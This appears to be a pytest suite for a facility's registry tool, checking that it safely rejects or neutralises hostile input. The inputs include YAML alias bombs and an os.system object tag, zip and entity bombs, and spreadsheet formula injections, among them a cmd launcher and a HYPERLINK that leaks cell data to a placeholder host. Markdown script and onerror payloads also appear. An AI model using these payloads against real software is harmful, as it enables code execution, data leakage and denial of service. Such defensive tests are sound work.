"""Documents that came by mail or were spoilt on the way: one sentence each, at once, and nobody else waits."""

from __future__ import annotations

import csv
import io
import os
import shutil
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import markdown
import openpyxl
import pytest
from markdown_it import MarkdownIt

from scripts.cli.__main__ import main
from scripts.lib import harmless, registry
from scripts.lib.registry import yaml_text
from scripts.lib.registry.cells import read_cells, unquoted
from tests.call.calls import APPLICATIONS, TERMS, scores, site, write

SECONDS = 5  # "at once", on a machine that does other things too


@pytest.fixture
def at_once():
    start = time.monotonic()
    yield
    assert time.monotonic() - start < SECONDS


# --- YAML -------------------------------------------------------------------------------------------------------------


def bomb(levels: int = 9) -> str:
    lines = ["x0: &x0 [a, a, a, a, a, a, a, a, a]"]
    lines += [f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


def merged_bomb(levels: int = 30) -> str:
    """Each mapping merges the one before it twice."""
    lines = ["x0: &x0 {a: 1}"]
    lines += [f"x{n}: &x{n} {{l: *x{n - 1}, r: *x{n - 1}}}" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


# What stands in a YAML file, and the words that must be said of it.
YAML = {
    "alias bomb": (bomb(), "found more than 20000 values"),
    "alias bomb of mappings": (merged_bomb(), "found more than 20000 values"),
    "alias of itself": ("references: &a {x: *a}\n", "found an alias of what it stands in"),
    "list without end": ("references: " + "[" * 5000, "found more than 50 levels"),
    "mapping without end": ("references: " + "{a: " * 5000, "found more than 50 levels"),
    "dashes without end": ("- " * 5000 + "x", "found more than 50 levels"),
    "aliases that pile up": (
        "x0: &x0 [[[[[[[[[[a]]]]]]]]]]\n" + "".join(f"x{n}: &x{n} [[[[[[*x{n - 1}]]]]]]\n" for n in range(1, 12)),
        "50 levels",
    ),
    "key twice": ("references: {}\ncalls: {}\nreferences: {}\n", "the key 'references' again (first in line 1)"),
    "key twice below": ("references:\n  a: {fasta: x, fasta: y}\n", "line 2: found the key 'fasta' again"),
    "key twice in other quotes": ("references: {}\n'references': {}\n", "line 2: found the key 'references' again"),
    "number for a key": ("calls: {2026: {}}\n", "line 1: found the key 2026, which is no text, expected it in quotes"),
    "yes or no for a key": ("no: {}\n", "found the key no, which is no text"),
    "nothing for a key": ("~: {}\n", "found the key ~, which is no text"),
    "merged twice": ("calls:\n  <<: {a: {}}\n  <<: {b: {}}\n", "line 3: found the key '<<' again"),
    "list for a key": ("? [a, b]\n: x\n", "found a list or mapping as a key"),
    "day that there is not": ("calls: {a: 2026-02-30}\n", "'2026-02-30' (day is out of range"),
    "hour that there is not": ("calls: {a: 2026-01-01T25:00:00}\n", "(hour must be in 0..23)"),
    "number without end": (f"calls: {{a: {'9' * 5000}}}\n", "line 1: found '99999"),
    "tag that lies": ("calls: {a: !!timestamp yesterday}\n", "found 'yesterday'"),
    "tag of a program": ("calls: !!python/object/apply:os.system [x]\n", "text that is not YAML"),
    "two documents": ("calls: {}\n---\ncalls: {}\n", "text that is not YAML"),
    "large": ("# " + "x" * (300 << 10) + "\n", "expected a file of up to 262144 bytes"),
    "zero byte": ("calls: {}\n\0", "text that is not YAML"),
    "archive": ("PK\x03\x04", "found a spreadsheet or archive"),
}  # fmt: skip


@pytest.mark.parametrize("case", YAML)
@pytest.mark.parametrize("name", ["config.yaml", "catalogue.yaml", "facilities.yaml"])
def test_yaml_is_judged_before_it_is_used(tmp_path, case, name, at_once, capsys):
    text, words = YAML[case]
    folder = site(tmp_path)
    (folder / "config" / name).write_text(text)
    assert main(["check", "--directory", str(folder)]) == 1
    told = [line for line in capsys.readouterr().err.splitlines() if f"config/{name}" in line]
    assert any(words in line for line in told), told


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: os.symlink("/dev/zero", path)])
@pytest.mark.parametrize("name", ["config.yaml", "samples.tsv"])
def test_what_is_no_file_is_not_read(tmp_path, make, name, at_once, capsys):
    folder = site(tmp_path)
    (folder / "config" / name).unlink(missing_ok=True)
    make(folder / "config" / name)
    assert main(["check", "--directory", str(folder)]) == 1
    assert f"config/{name}: found something that is not a file" in capsys.readouterr().err


def test_what_a_document_names_is_found_though_it_is_not_taken(at_once):
    text = bomb() + "references: {a: {fasta: ref/a.fa, fasta: ref/b.fa}}\nreferences: &r [ref/c.fa, *r]\n"
    assert {"ref/a.fa", "ref/b.fa", "ref/c.fa"} <= set(yaml_text.texts(text))


def test_anchors_and_merges_as_people_write_them_mean_what_they_meant():
    import yaml

    for path in (registry.site.SHIPPED).glob("*.yaml"):
        assert yaml_text.parsed(path.read_text())[1] == yaml.safe_load(path.read_text())
    text = "a: &a {x: 1, y: [1, 2]}\nb: {<<: *a, x: 2}\nc: {<<: [*a, {z: 3}]}\nd: {<<: {x: 1}, 'q': *a}\n"
    assert yaml_text.parsed(text)[1] == yaml.safe_load(text)


def test_a_calls_terms_are_judged_likewise(tmp_path, at_once, capsys):
    site(tmp_path / "site")
    folder = write(tmp_path / "call", terms=TERMS + "threshold: 0\n")
    assert main(["call", "--directory", str(tmp_path / "site"), str(folder)]) == 1
    assert "call.yaml, line 16: found the key 'threshold' again (first in line 8)" in capsys.readouterr().err


# --- spreadsheets -----------------------------------------------------------------------------------------------------

ROWS = [line.split("\t") for line in APPLICATIONS.splitlines()]


def workbook(change=lambda sheet: None, rows=ROWS) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append([int(cell) if cell.isdigit() else cell or None for cell in row])
    change(book.active)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def repacked(change, content: bytes = b"") -> bytes:
    """A workbook whose members are changed: {name: bytes} -> the same."""
    with zipfile.ZipFile(io.BytesIO(content or workbook())) as source:
        members = {name: source.read(name) for name in source.namelist()}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in change(members).items():
            target.writestr(name, data)
    return stream.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def put(cell: str, value, kind: str = ""):
    def change(sheet) -> None:
        sheet[cell] = value
        if kind:
            sheet[cell].data_type = kind

    return lambda: workbook(change)


def locked() -> bytes:
    """The beginning of a compound file, in which Office programs put a workbook that has a password."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + bytes.fromhex("3e000300feff0900") + bytes(480)


def broken(members: dict) -> dict:
    return members | {SHEET: members[SHEET].replace(b"<row", b"<r>w", 1)}


def stringless(members: dict) -> dict:
    cell = b'<row r="9"><c r="A9" t="s"><v>7</v></c></row></sheetData>'
    return members | {SHEET: members[SHEET].replace(b"</sheetData>", cell)}


def entities(members: dict) -> dict:
    text = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 1000 + b'">]>'
    return members | {SHEET: members[SHEET].replace(b"<worksheet", text + b"<worksheet", 1)}


def far(members: dict) -> dict:
    row = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return members | {SHEET: members[SHEET].replace(b"</sheetData>", row)}


# How the applications arrive, and what must be said of them.
BOOKS = {
    "cut in half": (lambda: workbook()[: len(workbook()) // 2], "no readable spreadsheet"),
    "a byte turned": (lambda: repacked(broken), "no readable spreadsheet"),
    "sheet cut": (lambda: repacked(lambda m: m | {SHEET: m[SHEET][:600]}), "no readable spreadsheet"),
    "no sheet": (lambda: repacked(lambda m: {k: v for k, v in m.items() if k != SHEET}), "no readable spreadsheet"),
    "no workbook": (lambda: repacked(lambda m: {"a": b"a"}), "no readable spreadsheet"),
    "no strings": (lambda: repacked(stringless), "no readable spreadsheet"),
    "empty": (lambda: b"", "no readable spreadsheet"),
    "text renamed": (lambda: APPLICATIONS.replace("\t", ",").encode(), "no readable spreadsheet"),
    "another archive": (lambda: repacked(lambda m: {"mimetype": b"application/vnd.oasis"}), "no readable spreadsheet"),
    "with a password": (locked, "a workbook with a password"),
    "with macros": (lambda: repacked(lambda m: m | {"xl/vbaProject.bin": b"x"}), "a workbook with macros"),
    "bomb": (lambda: repacked(lambda m: m | {SHEET: m[SHEET] + b" " * (200 << 20)}), "more than 8 MB, unpacked"),
    "entities": (lambda: repacked(entities), "sheet1.xml declares a document type"),
    "a cell far away": (lambda: repacked(far), "cells as far as row 1048576, column 16384"),
    "error for an id": (put("A3", "#REF!", "e"), "line 3, column application: found '#REF!', a spreadsheet's mark"),
    "error as text": (put("H3", "#N/A"), "line 3, column units: found '#N/A', a spreadsheet's mark"),
    "formula without its value": (put("H3", "=2+4"), "line 3: found a formula in H3 whose value is not stored"),
    "rounded number": (put("B3", 1234567890123456), "a number of more than 15 digits in B3"),
    "merged cells": (lambda: workbook(lambda sheet: sheet.merge_cells("C2:C3")), "the cells C2:C3 merged"),
    "hash for an id": (put("A3", "#17"), "line 3, column application: found '#17', expected letters"),
    "control character": (put("D3", "Wol\x9bves"), "line 3: found the control character '\\x9b'"),
}  # fmt: skip


@pytest.mark.parametrize("case", BOOKS)
def test_a_workbook_is_judged_before_it_is_used(tmp_path, case, capsys):
    make, words = BOOKS[case]
    site(tmp_path / "site")
    folder = write(tmp_path / "call", terms=TERMS + "applications: applications.xlsx\n")
    (folder / "applications.xlsx").write_bytes(make())
    start = time.monotonic()
    assert main(["call", "--directory", str(tmp_path / "site"), str(folder)]) == 1
    assert time.monotonic() - start < SECONDS
    told = capsys.readouterr().err
    assert any(words in line and line.startswith("applications.xlsx") for line in told.splitlines()), told
    assert not (folder / "outcome").exists()


def cells_of(tmp_path, content: bytes) -> list:
    (tmp_path / "a.xlsx").write_bytes(content)
    problems: list = []
    found = read_cells(tmp_path / "a.xlsx", "a.xlsx", problems)
    assert not problems
    return found


def test_cells_are_what_the_spreadsheet_shows(tmp_path):
    def change(sheet) -> None:
        sheet.delete_rows(1, 100)
        sheet.append(["#17", 17, 17.0, 17.5, True, "#REF", "two\nlines"])
        sheet["H1"] = 42
        sheet["H1"].number_format = "00000"

    found = cells_of(tmp_path, workbook(change))
    assert found.rows == [(1, ["#17", "17", "17", "17.5", "yes", "#REF", "two lines", "00042"])]


def test_a_formula_counts_by_the_value_that_was_stored(tmp_path):
    """As spreadsheet programs store it: the formula, and its value beside it; an empty text is a value."""

    def stored(members: dict) -> dict:
        cells = b'<c r="C1"><f>1+1</f><v>2</v></c><c r="D1" t="str"><f>""</f><v></v></c>'
        return members | {SHEET: members[SHEET].replace(b"</row>", cells + b"</row>", 1)}

    found = cells_of(tmp_path, repacked(stored, workbook(rows=[["a", "b"]])))
    assert found.rows == [(1, ["a", "b", "2", ""])]


def test_other_tables_are_named(tmp_path, capsys):
    site(tmp_path / "site")
    folder = write(tmp_path / "call", terms=TERMS + "applications: applications.xlsx\n")
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book.create_sheet("more").append(["A9"])
    book.create_sheet("nothing")
    book.save(folder / "applications.xlsx")
    assert main(["call", "--directory", str(tmp_path / "site"), str(folder)]) == 0
    assert "applications.xlsx: 6 rows, 6 used; other tables not read: more." in capsys.readouterr().out


# --- sheets of text ---------------------------------------------------------------------------------------------------

# A change of the applications, and what must be said.
TEXTS = {
    "error for an id": ("A2\tBea", "#REF!\tBea", "line 3, column application: found '#REF!', a spreadsheet's mark"),
    "hash for an id": ("A2\tBea", "#17\tBea", "line 3: found a row that begins with '#17', as comments do"),
    "a line end of Unicode": ("Bears", "Be\u2028ars", "line 3: found the control character '\\u2028'"),
    "a control of the second kind": ("Bears", "Be\x9b31mars", "line 3: found the control character '\\x9b'"),
    "a control at the end": ("Bears", "Bears\x1f", "line 3: found the control character '\\x1f'"),
}


@pytest.mark.parametrize("case", TEXTS)
def test_no_row_is_lost_without_a_word(tmp_path, case, capsys):
    old, new, words = TEXTS[case]
    site(tmp_path / "site")
    folder = write(tmp_path / "call", applications=APPLICATIONS.replace(old, new))
    assert main(["call", "--directory", str(tmp_path / "site"), str(folder)]) == 1
    assert words in capsys.readouterr().err


def test_every_desk_says_how_much_it_read(tmp_path, capsys):
    folder = site(tmp_path / "site")
    with open(folder / "config" / "proposals.tsv", "a") as handle:
        handle.write("P1\tC\tHearts\tawarded\tno\n#P2\tC\tLungs\tawarded\tno\nP 3\tC\tEyes\tawarded\tno\n\n")
    main(["check", "--directory", str(folder)])
    told = capsys.readouterr().out
    assert "config/proposals.tsv: 2 rows, 1 used; 2 read over because of their #, line 1, 4." in told
    assert "config/samples.tsv: 0 rows, 0 used." in told
    call = write(tmp_path / "call", applications="# ours\n" + APPLICATIONS)
    assert main(["call", "--directory", str(site(tmp_path / "other")), str(call)]) == 0
    told = capsys.readouterr().out
    assert "applications.tsv: 6 rows, 6 used; 1 read over because of their #, line 1." in told
    assert "scores.tsv: 18 rows, 18 used." in told


@pytest.mark.parametrize("title", ["#NAME?", "Hea\x1brts", "Hea\u2028rts", "Hearts\tx\ty\tz\tu"])
def test_an_error_stops_its_own_proposal(tmp_path, title):
    folder = site(tmp_path)
    with open(folder / "config" / "proposals.tsv", "a") as handle:
        handle.write(f"P1\tC\tHearts\tawarded\tno\nP2\tC\t{title}\tawarded\tno\n")
    found = registry.load(folder)
    assert [problem.proposals for problem in found.problems] == [{"P2"}] and "P1" in found.proposals


@pytest.mark.parametrize("header", ["\t".join(f"c{n}" for n in range(200_000)), "x" * 2_000_000, "c\x07\tproposal"])
def test_a_header_without_end_is_told_in_a_sentence(tmp_path, header, at_once, capsys):
    folder = site(tmp_path)
    (folder / "config" / "samples.tsv").write_text(header + "\n")
    assert main(["check", "--directory", str(folder)]) == 1
    assert len(capsys.readouterr().err) < 3000


def test_a_value_without_end_is_told_in_a_sentence(tmp_path, at_once, capsys):
    folder = site(tmp_path)
    with open(folder / "config" / "proposals.tsv", "a") as handle:
        handle.write(f"{'P' * 2_000_000}\tC\tHearts\tawarded\tno\n")
    assert main(["check", "--directory", str(folder)]) == 1
    assert "(2000000 characters)" in (told := capsys.readouterr().err) and len(told) < 3000


# How a parcel's sheet is named or made, and what must be said.
PARCELS = {
    "a blank": ("box 1.tsv", "found 'box 1' as a parcel's id"),
    "a tag": ("<b>.tsv", "found '<b>' as a parcel's id"),
    "a format": ("a{x}.tsv", "found 'a{x}' as a parcel's id"),
    "two points": ("X1.v2.tsv", "found 'X1.v2' as a parcel's id"),
    "an option": ("--x.tsv", "found '--x' as a parcel's id"),
    "no ending": ("X1", "found a parcel of another form"),
    "a list with commas": ("X1.csv", "found a parcel of another form"),
    "the old form": ("X1.xls", "found a parcel of another form"),
    "a folder": (".", "found a parcel of another form"),
    "the old form renamed": ("X2.tsv", "found a spreadsheet or archive"),
    "missing": ("X3.xlsx", "found no such file"),
}


@pytest.mark.parametrize("case", PARCELS)
def test_a_parcels_sheet_has_a_name_that_is_an_id(tmp_path, case, capsys):
    name, words = PARCELS[case]
    folder = site(tmp_path)
    path = folder / "reception" / name
    path.parent.mkdir(exist_ok=True)
    if name not in (".", "X3.xlsx"):
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" if name == "X2.tsv" else b"barcode\n")
    assert main(["reception", "--directory", str(folder), "--", str(path)]) == 1
    assert words in capsys.readouterr().err


def test_a_site_that_is_none_is_told(tmp_path, capsys):
    for command in (["reception", "X1.tsv"], ["call", "x"]):
        assert main([command[0], "--directory", str(tmp_path / "nowhere"), command[1]]) == 1
        assert "found no such directory, expected a site's directory, with config/ in it" in capsys.readouterr().err
    (tmp_path / "empty").mkdir()
    for command in (["reception", "X1.tsv"], ["call", "x"]):
        assert main([command[0], "--directory", str(tmp_path / "empty"), command[1]]) == 1
        assert "found no folder config/" in capsys.readouterr().err


# --- what senders write, where it is shown ----------------------------------------------------------------------------

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+39 080 1234", "-omics of hearts", "@SUM(1+1)", '"=1+1"', "\uff1d1+1", "- of x",
    "'=1+1", "=HYPERLINK(\"http://x.example?\"&A1)",
)  # fmt: skip
PLAIN = ("Wolves", "-", "+", "-5", "-5.2e3", "+1", "a=b", "2-3", "'quoted'", "", "O'Hara", "#1", "1+1")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_and_comes_back_as_it_was(text):
    cell = harmless.in_cell(text)
    assert cell == f"'{text}" and harmless.from_cell(cell) == text
    assert harmless.from_cell(harmless.from_cell(harmless.in_cell(cell))) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless.in_cell(text) == text == harmless.from_cell(text)


def computed(cell: str) -> bool:
    """Whether a spreadsheet would compute a cell, as its CSV import takes it: quotes away, then by the first sign."""
    plain = "".join(next(csv.reader([cell], delimiter="\t", skipinitialspace=True), []))
    return plain.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("title", FORMULAS)
def test_no_title_is_a_formula_in_a_table_and_every_letter_has_it_as_it_was(tmp_path, title):
    folder = site(tmp_path / "site")
    call = write(tmp_path / "call", applications=APPLICATIONS.replace("\tWolves\t", f"\t{title}\t"))
    assert main(["call", "--directory", str(folder), str(call), "--enter"]) == 0
    for path in (call / "outcome" / "ranking.tsv", folder / "config" / "proposals.tsv"):
        for line in path.read_text().splitlines():
            assert not any(computed(cell) for cell in line.split("\t") if not cell.lstrip("-").isdigit()), line
    said = harmless.from_cell(unquoted(title))  # quotation marks around a cell are the table's, not the sender's
    assert registry.load(folder).proposals["A1"].title == said
    assert shown((call / "outcome" / "letters" / "A1.md").read_text()).count(said) == 1
    # What was entered is known again.
    assert main(["call", "--directory", str(folder), str(call), "--enter"]) == 0


class Page(HTMLParser):
    """The tags and the text of a page."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, tuple(attrs)))

    def handle_data(self, data) -> None:
        self.text += data


def shown(text: str) -> str:
    """The text of a Markdown page as a reader sees it."""
    return " ".join(Page(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)).text.split())


MARKDOWN = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\\<b>bold\\</b>", "[pay](http://evil.example)",
    "![x](http://evil.example/p.png)", "*bold* _it_ **b** __b__ ~~gone~~ `code`", "# heading", "> quote", "- item",
    "+ item", "1. item", "2) item", "---", "===", "***", "a | b | c", "&lt;b&gt; &#60;i&#62; R&D", "\\", "```",
    "<http://evil.example>", "<!-- gone", "<?php ?>", "[ref]: http://evil.example", "snake_case_name p < 0.05 & q > 1",
    "<a\thref=x>y",
)  # fmt: skip


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown_shows_what_was_written_and_does_nothing(text):
    page = "Hello\n{0}\n\n*{0}* (x)\n\n| a | b |\n|---|---|\n| {0} | c |\n\n{0}\n"
    expected = [Page(render(page.format("Wolves"))).tags for render in RENDERERS]
    for render, tags in zip(RENDERERS, expected, strict=True):
        assert Page(render(page.format(harmless.in_markdown(text)))).tags == tags
    plain = " ".join(text.split())
    assert shown(harmless.in_markdown(text)) == plain


RENDERERS = (
    lambda text: markdown.markdown(text, extensions=["tables"]),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render,
)


def test_a_letter_and_a_receipt_show_what_senders_wrote_as_text(tmp_path):
    folder = site(tmp_path / "site")
    evil = "<img src=x onerror=alert(1)> [pay](http://evil.example) | *now*"
    call = write(tmp_path / "call", applications=APPLICATIONS.replace("Wolves", evil).replace("\tAda\t", "\t<b>Ada\t"))
    assert main(["call", "--directory", str(folder), str(call), "--enter"]) == 0
    text = (call / "outcome" / "letters" / "A1.md").read_text()
    for render in RENDERERS:
        assert not {"img", "a", "b", "em"} & {tag for tag, _ in Page(render(text)).tags}
    assert evil in shown(text) and "Dear <b>Ada," in shown(text)
    rows = dict.fromkeys(("barcode", "name"), evil) | {
        "proposal": "A1",
        "facility": "CNR-IBIOM",
        "service": "GEN-WGS-30X",
    }
    rows |= {"material": "<i>DNA", "condition": "intact", "received": "2026-03-02"}
    sheet = folder / "reception" / "X1.tsv"
    sheet.parent.mkdir()
    sheet.write_text("\t".join(rows) + "\n" + "\t".join(rows.values()) + "\n")
    assert main(["reception", "--directory", str(folder), str(sheet)]) == 0
    text = (sheet.parent / "X1" / "receipt.md").read_text()
    for render in RENDERERS:
        tags = {tag for tag, _ in Page(render(text)).tags}
        assert not {"img", "a", "i", "b"} & tags and "table" in tags
    assert evil in shown(text)


def test_a_barcode_is_no_formula_in_verdicts_and_names(tmp_path):
    from scripts.lib.registry.private import read_keys
    from tests.attacks.test_people import receive, tube
    from tests.attacks.test_people import verdicts as said

    folder = site(tmp_path)
    (folder / "config" / "proposals.tsv").write_text(
        "proposal\tcall\ttitle\tstatus\thuman_data\nP1\tC\tHearts\tawarded\tpublic\n"
    )
    for _ in range(2):
        assert receive(folder, [tube("=T1", "@Rossi", name="-N")], "--enter") == 0
    assert said(folder) == ["accepted"]
    for path in (folder / "reception" / "X1" / "verdicts.tsv", folder / "private" / "reception_keys.tsv"):
        assert not any(computed(cell) for line in path.read_text().splitlines() for cell in line.split("\t"))
    (key,) = read_keys(folder, registry.load(folder).config)
    assert (key.barcode, key.donor_name, key.name) == ("=T1", "@Rossi", "-N")


def test_the_readme_shows_titles_as_text(tmp_path):
    from scripts.delivery.readme import readme

    words = ("service_title", "title", "call", "facility_name", "contact")
    facts = dict.fromkeys(words, "<b>x</b> *y* [z](u)") | {"proposal": "P1", "facility": "F", "service": "S"}
    facts |= {"human": False, "catalogued": False, "samples": [], "absent": {"A1": "<i>why</i>"}}
    facts |= {"agreement_end": "", "retention_months": 3}
    waived = {"sample": "A1", "metric": "m", "value": "1", "criterion": "at least 2", "verdict": "waived"}
    waived |= {"waived_by": "<u>Dr</u>", "waived_on": "2026-01-01", "waived_because": "a | b"}
    text = readme(facts, [], {}, [waived])
    for render in RENDERERS:
        assert not {"b", "i", "u", "a"} & {tag for tag, _ in Page(render(text)).tags}
    assert "<b>x</b> *y* [z](u) (<b>x</b> *y* [z](u))" in shown(text)
    assert "<u>Dr</u> waived it on 2026-01-01: a | b" in shown(text)


def test_a_spreadsheet_that_is_damaged_leaves_the_outcome_before(tmp_path):
    site(tmp_path / "site")
    folder = write(tmp_path / "call")
    assert main(["call", "--directory", str(tmp_path / "site"), str(folder)]) == 0
    before = shutil.copytree(folder / "outcome", tmp_path / "before")
    (folder / "scores.tsv").write_text(scores(A1=(5, 5)).replace("A1", "#VALUE!", 1))
    assert main(["call", "--directory", str(tmp_path / "site"), str(folder)]) == 1
    assert {path.name: path.read_bytes() for path in Path(before).rglob("*") if path.is_file()} == {
        path.name: path.read_bytes() for path in (folder / "outcome").rglob("*") if path.is_file()
    }
